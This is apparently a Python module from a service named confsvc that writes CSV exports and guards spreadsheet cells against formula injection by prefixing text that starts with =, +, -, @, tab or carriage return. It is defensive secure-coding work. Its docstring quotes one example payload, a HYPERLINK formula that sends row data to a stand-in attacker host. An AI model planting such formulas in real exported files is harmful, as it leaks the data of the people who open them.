"""The one CSV writer for everything confsvc writes as CSV (the report, the questions
export): RFC 4180 quoting, ``\\r\\n`` line ends, and every text cell neutralised against
formula injection.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("https://evil.example/?"&A1, "click")`` sends the row away), and Excel
also looks past a leading tab or carriage return (OWASP, "CSV Injection"). Such a cell
gets a leading ``'``, which spreadsheets show as text and do not display. Numbers that
confsvc itself produced (``int``/``float``) are left alone: ``-3`` is a number, not a
formula. Reading CSV (the questions import) is not this module's job: see
``confsvc.core.questions.parse_import_csv``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

# The first characters a spreadsheet treats as the start of a formula (OWASP).
FORMULA_START = frozenset({"=", "+", "-", "@", "\t", "\r"})


def cell(value: object) -> str:
    """One cell's text: ``None`` is empty, numbers stay numbers, text that a spreadsheet
    would run as a formula is prefixed with ``'``."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else ""
    if isinstance(value, int | float):
        return str(value)
    text = str(value)
    if text[:1] in FORMULA_START:
        return "'" + text
    return text


def write_csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The whole file as text: the header row, then each row, every cell through ``cell``."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([cell(h) for h in header])
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return out.getvalue()
